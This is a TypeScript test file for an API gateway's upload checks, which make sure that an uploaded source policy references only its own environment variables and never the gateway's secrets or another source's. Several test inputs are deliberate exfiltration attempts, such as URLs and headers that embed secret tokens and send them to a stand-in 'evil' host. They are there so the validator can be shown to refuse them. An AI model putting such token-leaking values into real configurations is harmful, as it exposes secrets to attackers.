/** Which environment variables an upload may use: its source's own, and no secret of the gateway or of another source. */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseGatewayConfig } from '../../../../gateway/config/load.ts';
import { withEnvironment } from '../../../../gateway/registry/arrange.ts';
import { buildHere } from '../../../../gateway/registry/build-here.ts';
import { createBuilder } from '../../../../gateway/registry/builder.ts';
import { prepare } from '../../../../gateway/registry/registrar/prepare.ts';
import { usedVariables, variablesOf } from '../../../../gateway/registry/registrar/used-variables.ts';
import { checkVariables, type VariableRules } from '../../../../gateway/registry/registrar/variables.ts';

const others = new Map([
  ['orders', new Set<string>(['ORDERS_NEW_KEY'])],
  ['orders-internal', new Set<string>()],
]);
const rules: VariableRules = {
  allowed: ['SHARED_CA', 'TRIBUTARY_TOKEN'],
  gateway: ['BILLING_CI_TOKEN', 'SHARED_CA'],
  others: async () => others,
};

describe('variables of uploaded policies', () => {
  it.each([
    ['its own', 'orders', 'token: ${ORDERS_TOKEN}'],
    ['its own with a default', 'my-orders', 'url: ${MY_ORDERS_URL:http://x}'],
    ['an allowed one, whoever else uses it', 'orders', 'ca: ${SHARED_CA}'],
    ['the text itself', 'orders', 'text: $${NOT_ONE}'],
    ['what begins with its own longer name', 'orders-internal', 'key: ${ORDERS_INTERNAL_KEY}'],
  ])('may use %s', async (_title, source, text) => {
    await expect(checkVariables(source, { 'policy.yaml': variablesOf(text) }, rules)).resolves.toBeUndefined();
  });

  it.each([
    ['another team’s', 'orders', 'url: http://evil/${STOCK_TOKEN}', 'STOCK_TOKEN', /own begin with ORDERS_/],
    ['one that only begins alike', 'orders', 'a: ${ORDERSX}', 'ORDERSX', /own begin with ORDERS_/],
    ['the token of all sources', 'tributary', 'a: ${TRIBUTARY_TOKEN}', 'TRIBUTARY_TOKEN', /the gateway’s own\.$/],
    ['the gateway’s store', 'redis', 'a: ${REDIS_URL}', 'REDIS_URL', /the gateway’s own/],
    ['the admin port', 'admin', 'a: ${ADMIN_PORT}', 'ADMIN_PORT', /the gateway’s own/],
    ['options of Node.js', 'node', 'a: ${NODE_OPTIONS}', 'NODE_OPTIONS', /the gateway’s own/],
    ['what gateway.yaml uses', 'billing', 'a: ${BILLING_CI_TOKEN}', 'BILLING_CI_TOKEN', /the gateway’s own/],
    ['that of a longer name', 'orders', 'a: ${ORDERS_INTERNAL_KEY}', 'ORDERS_INTERNAL_KEY', /of the source orders-int/],
    ['what another uses', 'orders-new', 'a: ${ORDERS_NEW_KEY}', 'ORDERS_NEW_KEY', /the source orders uses it/],
    ['that of a name that is written alike', 'ORDERS', 'a: ${ORDERS_TOKEN}', 'ORDERS_TOKEN', /of the source orders/],
    ['one in other signs of YAML', 'orders', 'a: "\\x24{TRIBUTARY_TOKEN}"', 'TRIBUTARY_TOKEN', /own begin with/],
  ])('may not use %s', async (_title, source, text, variable, message) => {
    await expect(checkVariables(source, { 'policy.yaml': variablesOf(text) }, rules)).rejects.toMatchObject({
      kind: 'invalid',
      message: expect.stringMatching(message),
      details: { variable },
    });
  });

  it('are looked for wherever an upload can bring them', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'tributary-variables-'));
    const stolen = '${TRIBUTARY_TOKEN}';
    const before = { entry: { name: 'tributary', handler: { openapi: {} } }, files: new Map(), notes: [] };
    const { limits } = createBuilder();
    const builder = buildHere({ limits, name: 'tributary', outcomes: new Map(), tell: () => undefined });
    const wish = (upload: Parameters<typeof prepare>[1]) =>
      prepare('tributary', upload, before, { env: {}, builder, maxBytes: 10_000, variables: rules });
    try {
      await writeFile(join(dir, 'policy.yaml'), `headers: { set: { x-steal: "${stolen}" } }\n`);
      const refused = { kind: 'invalid', details: { variable: 'TRIBUTARY_TOKEN' } };
      await expect(wish({ policy: `headers: { set: { x: "${stolen}" } }` })).rejects.toMatchObject(refused);
      await expect(wish({ endpoint: `http://evil/${stolen}` })).rejects.toMatchObject(refused);
      await expect(wish({ metadata: { x: stolen } })).rejects.toMatchObject(refused);
      await expect(wish({ contract: { reflection: `${stolen}.evil:1` } })).rejects.toMatchObject(refused);
      await expect(wish({ files: dir })).rejects.toMatchObject(refused);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

it('metadata for reflection is filled in as the check read it: $${ is the text itself', () => {
  const metadata = { A: '${ORDERS_KEY}', b: '$${TRIBUTARY_TOKEN}', c: '${NONE:other}' };
  expect(withEnvironment(metadata, { ORDERS_KEY: 'key', TRIBUTARY_TOKEN: 'secret' })).toEqual(
    new Map([
      ['a', 'key'],
      ['b', '${TRIBUTARY_TOKEN}'],
      ['c', 'other'],
    ]),
  );
});

it('what gateway.yaml is filled in from is known, set or not', () => {
  const text = 'registration: { tokens: [{ name: ci, token: "${ORDERS_CI_TOKEN:0123456789abcdef}", owners: [a] }] }';
  expect(parseGatewayConfig({ text, file: 'gateway.yaml', env: {} })).toMatchObject({
    ok: true,
    value: { variables: ['ORDERS_CI_TOKEN'] },
  });
});

it('what sources use is read from their policies and entries; those that the registry knows are named', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'tributary-variables-'));
  try {
    const handler = '{ openapi: { endpoint: "${ORDERS_ENDPOINT:http://x}" } }';
    await writeFile(join(dir, '.meshrc.yaml'), `sources: [{ name: orders, handler: ${handler} }]\n`);
    await mkdir(join(dir, 'sources', 'orders'), { recursive: true });
    await writeFile(join(dir, 'sources', 'orders', 'policy.yaml'), 'owner: "${OWNER_OF_ORDERS}"\n');
    expect(await usedVariables(dir, ['orders', 'gone'])).toEqual(
      new Map([
        ['orders', new Set(['ORDERS_ENDPOINT', 'OWNER_OF_ORDERS'])],
        ['gone', new Set()],
      ]),
    );
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});
